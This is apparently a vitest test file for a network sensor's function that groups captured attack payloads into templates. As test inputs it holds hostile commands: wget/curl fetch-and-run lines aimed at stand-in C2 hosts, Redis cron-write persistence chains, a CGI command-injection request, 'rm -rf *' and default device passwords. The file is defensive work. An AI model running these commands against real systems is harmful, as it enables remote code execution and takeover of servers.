// Template ids over the corpus (dissected by the sensor's own parsers) and over payloads that
// differ in one variable part at a time; bounded and total on hostile input (fast-check). The
// tags of one template agreeing is checked in template-tags.test.ts.

import { readFileSync } from 'node:fs';

import fc from 'fast-check';
import { beforeAll, describe, expect, it } from 'vitest';

import { dissect } from '../protocols/dissect.js';
import { templateOf, templateSkeleton, type TemplateInput } from './template.js';

interface CorpusLine {
  id: string;
  port: number;
  transport: 'tcp' | 'udp';
  payload_b64: string;
  expect: { protocol: string; tag_any: string[] };
}

const CORPUS = new URL('../../test/fixtures/corpus/attacks.jsonl', import.meta.url);
const ID = /^t[0-9a-f]{15}$/;
/** A generous bound for one hostile 64 KiB payload on a busy shared machine. */
const MAX_HOSTILE_MS = 250;

function event(protocol: string, payload: string | Buffer, extra: Partial<TemplateInput> = {},
): TemplateInput {
  const bytes = typeof payload === 'string' ? Buffer.from(payload, 'latin1') : payload;
  return { protocol, transport: 'tcp', payload_b64: bytes.toString('base64'), fields: {},
    commands: [], ...extra };
}

/** An HTTP request from its head lines and body, with a Content-Length that fits. */
function http(head: string[], body = ''): TemplateInput {
  const length = body === '' ? [] : [`Content-Length: ${Buffer.byteLength(body)}`];
  return event('http', [...head, ...length, '', body].join('\r\n'));
}

function rpc(id: string, method = 'eth_blockNumber', host = '203.0.113.10:8545'): TemplateInput {
  return http(['POST / HTTP/1.1', `Host: ${host}`, 'Content-Type: application/json'],
    `{"jsonrpc":"2.0","method":"${method}","params":[],"id":${id}}`);
}

/** A Redis command as RESP: an array of bulk strings, each after its `$length`. */
function resp(...args: string[]): string {
  return `*${args.length}\r\n${args.map((a) => `$${a.length}\r\n${a}\r\n`).join('')}`;
}

function rdpCookie(cookie: string): TemplateInput {
  return event('rdp', 'x', { fields: { cookie, requested_protocols: ['ssl', 'hybrid'] } });
}

function shell(...commands: string[]): TemplateInput {
  return event('telnet', 'root\r\nxc3511\r\n', { commands });
}

function same(...events: TemplateInput[]): void {
  const ids = events.map((e) => templateOf(e));
  expect(ids[0]).toMatch(ID);
  expect(new Set(ids).size, events.map((e) => templateSkeleton(e)).join('\n---\n')).toBe(1);
}

function differ(a: TemplateInput, b: TemplateInput): void {
  expect(templateOf(a)).toMatch(ID);
  expect(templateOf(a)).not.toBe(templateOf(b));
}

describe('templates of the corpus', () => {
  const records = readFileSync(CORPUS, 'utf8').split('\n').filter((l) => l.trim() !== '')
    .map((l) => JSON.parse(l) as CorpusLine);
  const ids = new Map<string, string | null>();

  beforeAll(async () => {
    for (const r of records) {
      const found = await dissect(Buffer.from(r.payload_b64, 'base64'),
        { transport: r.transport, dstPort: r.port });
      ids.set(r.id, templateOf({ protocol: found.protocol, transport: r.transport,
        payload_b64: r.payload_b64, fields: found.fields, commands: found.commands,
        credentials: found.credentials }));
    }
  });

  it('gives every record an id', () => {
    for (const r of records) expect(ids.get(r.id), r.id).toMatch(ID);
  });

  it('puts the three seed-8545 eth_blockNumber calls in one template', () => {
    const seeds = records.filter((r) => r.id.startsWith('seed-8545-')).map((r) => ids.get(r.id));
    expect(seeds).toHaveLength(3);
    expect(new Set(seeds).size).toBe(1);
  });

  it('never puts records of different families in one template', () => {
    const family = (r: CorpusLine) => `${r.expect.protocol} ${[...r.expect.tag_any].sort()}`;
    const mixed: string[] = [];
    for (const a of records) {
      for (const b of records) {
        if (a.id < b.id && ids.get(a.id) === ids.get(b.id) && family(a) !== family(b)) {
          mixed.push(`${a.id} ~ ${b.id}`);
        }
      }
    }
    expect(mixed).toEqual([]);
  });
});

describe('variable parts share a template', () => {
  it('JSON-RPC ids, numbers or strings, and the Content-Length they change', () => {
    same(rpc('1'), rpc('406270'), rpc('"a7f3"'), rpc('null'));
  });

  it('Host headers, by name, address or IPv6 address', () => {
    same(rpc('1', undefined, 'example.com'), rpc('1', undefined, '203.0.113.10:8545'),
      rpc('1', undefined, '[2001:db8::1]:8545'));
  });

  it('addresses inside commands, with or without a port, IPv6 too', () => {
    same(shell('wget http://198.51.100.7/bins.sh'), shell('wget http://192.0.2.200:8080/bins.sh'),
      shell('wget http://[2001:db8::5]/bins.sh'));
  });

  it('random file names and the busybox applet name', () => {
    same(shell('cd /tmp; wget http://192.0.2.1/x7Gq2.sh; sh x7Gq2.sh', '/bin/busybox ECCHI'),
      shell('cd /tmp; wget http://192.0.2.9/Kp9zQ.sh; sh Kp9zQ.sh', '/bin/busybox HLRZN'));
  });

  it('nonces in a query and in Digest authorisation', () => {
    const digest = (nonce: string, cnonce: string) => http(['GET /x?nonce=' + cnonce +
      ' HTTP/1.1', 'Host: example.com', `Authorization: Digest username="admin", ` +
      `nonce="${nonce}", cnonce="${cnonce}", nc=00000001`]);
    same(digest('88645cefb1f9ede0e336e3569d75ee30', 'Wq3Zk9aLp0'),
      digest('0f1e2d3c4b5a69788796a5b4c3d2e1f0', 'Tr8Mx2bNc4'));
  });

  it('dates, ISO 8601 times and epoch timestamps', () => {
    const at = (date: string, iso: string, epoch: string) => http([`GET /ping?ts=${epoch} ` +
      'HTTP/1.1', 'Host: example.com', `Date: ${date}`], `{"at":"${iso}"}`);
    same(at('Tue, 15 Nov 1994 08:12:31 GMT', '2024-05-01T12:30:00Z', '1700000000'),
      at('Sun, 06 Nov 2022 23:59:59 GMT', '2025-12-31T00:00:01.999+09:00', '1712345678901'));
  });

  it('UUIDs, hex digests and base64 blobs', () => {
    const run = (uuid: string, hash: string, script: string) => http([`POST /api/${uuid} ` +
      'HTTP/1.1', 'Host: example.com'], `sum=${hash}&cmd=echo ` +
      `${Buffer.from(script).toString('base64')}|base64 -d|sh`);
    same(run('3f2b8c1e-9d4a-4b7e-8f00-1a2b3c4d5e6f', 'd41d8cd98f00b204e9800998ecf8427e',
      'wget http://192.0.2.1/a.sh; sh a.sh'),
    run('a0b1c2d3-e4f5-4061-8273-94a5b6c7d8e9', '9e107d9d372bb6826bd81d3542a419d6',
      'curl -s http://198.51.100.99:81/b.sh | sh'));
  });

  it('Redis RESP arguments of other lengths, and AUTH passwords', () => {
    const redis = (...args: string[]) => event('redis', resp(...args));
    same(redis('SET', 'x7Gq2', 'http://192.0.2.1/a'),
      redis('SET', 'Kp9zQ7b', 'http://192.0.2.77/a'));
    same(redis('AUTH', 'foobared'), redis('AUTH', 'redis123456'));
    same(event('redis', 'AUTH foobared\r\n'), event('redis', 'AUTH p@ss\r\n'));
  });

  it('200 Redis cron-write chains told apart by a counter in key and file names', () => {
    const chain = (n: number) => event('redis', [['FLUSHALL'],
      ['SET', `x${n}_3`, `\n\n*/1 * * * * wget http://198.51.100.7/x${n}_3.sh\n\n`],
      ['SET', `x${n}_4`, `\n\n*/2 * * * * curl -fsSL http://198.51.100.7/a${n}.sh | sh\n\n`],
      ['CONFIG', 'SET', 'dir', '/var/spool/cron/'], ['CONFIG', 'SET', 'dbfilename', 'root'],
      ['SAVE']].map((args) => resp(...args)).join(''));
    const ids = new Set(Array.from({ length: 200 }, (_, i) => templateOf(chain(i + 1))));
    expect([...ids], templateSkeleton(chain(5)) ?? '').toHaveLength(1);
    expect(templateSkeleton(chain(150))).toContain('$<n>\nx<n>_<n>\n$<n>\n');
  });

  it('host names and addresses inside URLs, in Redis, shell commands and raw text', () => {
    const cron = (url: string) => event('redis',
      resp('SET', 'k', `\n*/1 * * * * curl ${url}|sh\n`));
    same(cron('http://c2.example.com/b.sh'), cron('http://evil.example.net/b.sh'),
      cron('http://198.51.100.7:8080/b.sh'));
    same(shell('wget http://c2.example.com/b.sh'), shell('wget http://[2001:db8::5]/b.sh'));
    const raw = (url: string) => event('unknown', Buffer.from(`\x00\x01GET ${url}\x00`));
    // An unknown payload's skeleton holds its length: the two names are as long.
    same(raw('http://c2.example.com/x'), raw('http://ex.example.org/x'));
  });

  it('the file name a URL fetches, where it is fetched and where it is run', () => {
    const exploit = (name: string) => http([`GET /cgi-bin/x.cgi?cmd=cd+/tmp;wget+` +
      `http://198.51.100.5/${name}.sh;chmod+777+${name}.sh;./${name}.sh HTTP/1.1`,
    'Host: example.com']);
    same(exploit('kqhzrw'), exploit('pwxjta'), exploit('x5_3'));
    same(shell('cd /tmp', 'wget http://192.0.2.1/kqhzrw.sh', 'sh kqhzrw.sh'),
      shell('cd /tmp', 'wget http://192.0.2.1/pwxjta.sh', 'sh pwxjta.sh'));
    same(event('redis', resp('SET', 'a5', '*/1 * * * * wget -q -O- http://192.0.2.1/a5.sh|sh')),
      event('redis', resp('SET', 'a150', '*/1 * * * * wget -q -O- http://192.0.2.1/a150.sh|sh')));
  });

  it('user names and passwords of line protocols', () => {
    same(event('ftp', 'USER anonymous\r\nPASS guest@\r\n'),
      event('ftp', 'USER root\r\nPASS 1\r\n'));
    same(event('smtp', 'EHLO a.example.com\r\nAUTH LOGIN\r\ndXNlcg==\r\ncGFzcw==\r\n'),
      event('smtp', 'EHLO b.example.net\r\nAUTH LOGIN\r\nYWRtaW4=\r\nMTIzNDU2\r\n'));
    same(event('imap', 'a1 LOGIN alice secret\r\n'), event('imap', 'a1 LOGIN bob hunter2\r\n'));
  });

  it('SIP hosts, tags, branches and Call-IDs', () => {
    const options = (host: string, callId: string, tag: string) => event('sip', [
      `OPTIONS sip:100@${host} SIP/2.0`, `Via: SIP/2.0/UDP ${host}:5060;branch=z9hG4bK-${tag}`,
      `From: "sipvicious"<sip:100@${host}>;tag=${tag}`, `To: <sip:100@${host}>`,
      `Call-ID: ${callId}`, 'CSeq: 1 OPTIONS', 'Content-Length: 0', '', ''].join('\r\n'));
    same(options('192.0.2.1', '1193467037397750315391071', '3766303030'),
      options('pbx.example.org', 'a84b4c76e66710@pc33.example.com', '1928301774'));
  });

  it('MySQL and MSSQL user names, process ids and client host names', () => {
    const mysql = (user: string, pid: string) => event('mysql', 'x', { fields: { user,
      auth_plugin: 'mysql_native_password', client_capabilities: 12558989,
      attrs: { _os: 'Linux', _client_name: 'libmariadb', _pid: pid, program_name: 'mysql' } } });
    same(mysql('root', '20669'), mysql('admin', '311'));
    const mssql = (hostname: string) => event('mssql', 'x', { fields: { client_version:
      '9.0.0.0', tds_version: '0x74000004', app_name: 'TSQL', hostname } });
    same(mssql('WIN-7Q2D9'), mssql('kali'));
  });

  it('the user names and passwords an SSH or Telnet client tries', () => {
    const ssh = (username: string, password: string) => event('ssh', 'SSH-2.0-Go\r\n', {
      fields: { client_version: 'SSH-2.0-Go' }, credentials: [{ username, password }] });
    same(ssh('root', '123456'), ssh('admin', 'admin'));
    const telnet = (username: string, password: string) => event('telnet',
      `${username}\r\n${password}\r\n`, { fields: { login: username },
        credentials: [{ username, password }] });
    same(telnet('root', 'xc3511'), telnet('admin', '7ujMko0admin'));
  });

  it('generated parts of an RDP cookie, the server name a TLS hello asks for', () => {
    same(rdpCookie('WIN-7QK2P1'), rdpCookie('WIN-X9A4B2'));
    const tls = (sni: string) => event('tls', 'x', { fields: { tls: { ja4: 't13d1516h2_a',
      sni } } });
    same(tls('example.com'), tls('www.example.org'));
  });
});

describe('what differs gets another template', () => {
  it('another path or method', () => {
    differ(http(['GET /a HTTP/1.1', 'Host: example.com']),
      http(['GET /b HTTP/1.1', 'Host: example.com']));
    differ(http(['GET /a HTTP/1.1', 'Host: example.com']),
      http(['POST /a HTTP/1.1', 'Host: example.com']));
  });

  it('another HTTP version or MySQL client', () => {
    differ(http(['GET / HTTP/1.0']), http(['GET / HTTP/1.1']));
    const mysql = (client: string) => event('mysql', 'x', { fields: { auth_plugin: null,
      attrs: { _client_name: client } } });
    differ(mysql('libmariadb'), mysql('Go-MySQL-Driver'));
  });

  it('another RDP cookie: each tool sends its own, and rules tell them apart', () => {
    differ(rdpCookie('hello'), rdpCookie('Administr'));
    differ(rdpCookie('hello'), rdpCookie('nmap'));
    differ(rdpCookie('hello'), event('rdp', 'x', { fields: {
      requested_protocols: ['ssl', 'hybrid'] } }));
  });

  it('a login attempt and a bare handshake of one client, a password and a public key', () => {
    const ssh = (extra: Partial<TemplateInput>) => event('ssh', 'SSH-2.0-Go\r\n', {
      ...extra, fields: { client_version: 'SSH-2.0-Go', ...extra.fields } });
    const password = ssh({ credentials: [{ username: 'root', password: 'root' }] });
    differ(password, ssh({}));
    const key = { username: 'root', algorithm: 'ssh-rsa' };
    differ(password, ssh({ fields: { public_keys: [key] } }));
    differ(event('telnet', 'HELP\r\n'), event('telnet', 'admin\r\npassword\r\n', {
      fields: { login: 'admin' }, credentials: [{ username: 'admin', password: 'password' }] }));
  });

  it('an SMB stream that goes on after the negotiate (tree connect, transaction)', () => {
    const frame = (command: number) => Buffer.concat([Buffer.from([0, 0, 0, 35]),
      Buffer.from([0xff, 0x53, 0x4d, 0x42, command]), Buffer.alloc(30)]);
    const smb = (...commands: number[]) => event('smb', Buffer.concat(commands.map(frame)), {
      fields: { smb1_dialects: ['NT LM 0.12'], next_command: 'smb1:0x73' } });
    expect(templateSkeleton(smb(0x72, 0x73, 0x75, 0x25))).toContain(
      'smb_commands:smb1:0x72,smb1:0x73,smb1:0x75,smb1:0x25');
    differ(smb(0x72, 0x73, 0x75, 0x25), smb(0x72, 0x73));
  });

  it('another JSON-RPC method', () => {
    differ(rpc('1'), rpc('1', 'eth_getBalance'));
  });

  it('another extension or path of a fetched file, another fetch command', () => {
    differ(shell('wget http://192.0.2.1/a.sh'), shell('wget http://192.0.2.1/a.pl'));
    differ(shell('wget http://192.0.2.1/a.sh'), shell('wget http://192.0.2.1/bins/a.sh'));
    differ(shell('wget http://192.0.2.1/a.sh; sh a.sh'), shell('wget http://192.0.2.1/a.sh'));
  });

  it('another command, or one more', () => {
    differ(shell('wget http://192.0.2.1/a.sh'), shell('curl http://192.0.2.1/a.sh'));
    differ(shell('cd /tmp'), shell('cd /tmp', 'rm -rf *'));
  });

  it('other headers, or the same ones in another order', () => {
    differ(http(['GET / HTTP/1.1', 'Host: a', 'Accept: */*']),
      http(['GET / HTTP/1.1', 'Accept: */*', 'Host: a']));
    differ(http(['GET / HTTP/1.1', 'Host: a', 'User-Agent: zgrab/0.x']),
      http(['GET / HTTP/1.1', 'Host: a', 'User-Agent: masscan/1.3']));
  });

  it('another SSH client or TLS fingerprint, another inner HTTP path', () => {
    const ssh = (v: string) => event('ssh', `${v}\r\n`, { fields: { client_version: v } });
    differ(ssh('SSH-2.0-libssh2_1.4.3'), ssh('SSH-2.0-Go'));
    const tls = (path: string) => event('tls', 'x', { fields: { tls: { ja4: 't13d', sni: null },
      inner: { protocol: 'http', fields: { method: 'GET', path, version: 'HTTP/1.1' } } } });
    differ(tls('/'), tls('/.env'));
  });

  it('another protocol, with the same bytes', () => {
    differ(event('unknown', 'hello world'), event('jdwp', 'hello world'));
  });
});

describe('templateOf edge cases', () => {
  it('is null without payload or commands, and set by commands alone', () => {
    expect(templateOf(event('ssh', ''))).toBeNull();
    expect(templateOf(event('ssh', '', { commands: ['uname -a'] }))).toMatch(ID);
  });

  it('starts the skeleton with the protocol and shows what varies', () => {
    expect(templateSkeleton(rpc('7'))?.split('\n')).toEqual(['http/tcp', 'POST / HTTP/1.1',
      'Host: <host>', 'Content-Type: application/json', 'Content-Length: <n>', '',
      '{"jsonrpc":"<n>.<n>","method":"eth_blockNumber","params":[],"id":<id>}']);
  });

  it('describes unknown binary bytes by length and printable strings', () => {
    const bytes = Buffer.concat([Buffer.from([0, 1, 2]), Buffer.from('GETX 192.0.2.1'),
      Buffer.from([0xff, 9])]);
    expect(templateSkeleton(event('unknown', bytes))).toBe('unknown/tcp\nlen:19\nGETX <ip>');
  });

  it('never throws and gives an id or null for any bytes under any protocol', () => {
    const protocols = ['http', 'sip', 'redis', 'ftp', 'smtp', 'imap', 'jsonrpc', 'telnet',
      'ssh', 'tls', 'rdp', 'smb', 'unknown'];
    fc.assert(fc.property(fc.constantFrom(...protocols), fc.uint8Array({ maxLength: 2048 }),
      fc.array(fc.string({ maxLength: 64 }), { maxLength: 4 }), (protocol, bytes, commands) => {
        const id = templateOf(event(protocol, Buffer.from(bytes), { commands }));
        return id === null ? bytes.length === 0 && commands.length === 0 : ID.test(id);
      }), { numRuns: 300 });
  });

  it('masks any IPv4 address and number the same way', () => {
    const base = templateOf(shell('wget http://192.0.2.1:80/a; sleep 5'));
    fc.assert(fc.property(fc.ipV4(), fc.nat(65535), fc.nat(), (ip, port, n) =>
      templateOf(shell(`wget http://${ip}:${port}/a; sleep ${n}`)) === base), { numRuns: 300 });
  });

  it('takes bounded time on hostile 64 KiB payloads', () => {
    const size = 64 * 1024;
    const hostile = [Buffer.alloc(size, 'a/'), Buffer.alloc(size, '1.'), Buffer.alloc(size, ':'),
      Buffer.alloc(size, '::a'), Buffer.alloc(size, '%2'), Buffer.alloc(size, '\\x4'),
      Buffer.alloc(size, 'aB3+'), Buffer.alloc(size, '9'), Buffer.alloc(size, '"id":"'),
      Buffer.alloc(size, '@['), Buffer.alloc(size, '2024-01-01T'), Buffer.alloc(size, '\r\n'),
      Buffer.alloc(size, 'AUTH LOGIN\n'), Buffer.alloc(size, '*9\r\n'), Buffer.alloc(size, 'a://b/'),
      Buffer.alloc(size, 'x%3A%2F%2Fa%2F'), Buffer.alloc(size, 'h://a/a.s a.s a'),
      Buffer.from(`${'h://a/b.c '.repeat(16)}${'b_'.repeat(size / 2)}`),
      Buffer.from(fc.sample(fc.uint8Array({ minLength: size, maxLength: size }), 1)[0] ?? [])];
    for (const protocol of ['http', 'sip', 'redis', 'smtp', 'jsonrpc', 'smb', 'unknown']) {
      for (const bytes of hostile) {
        const started = performance.now();
        const fields = { tls: { sni: bytes.toString('latin1') } };
        expect(templateOf(event(protocol, bytes, { fields, commands: [bytes.toString()] })))
          .toMatch(ID);
        expect(performance.now() - started, `${protocol} ${bytes.subarray(0, 8)}`)
          .toBeLessThan(MAX_HOSTILE_MS);
      }
    }
  });
});
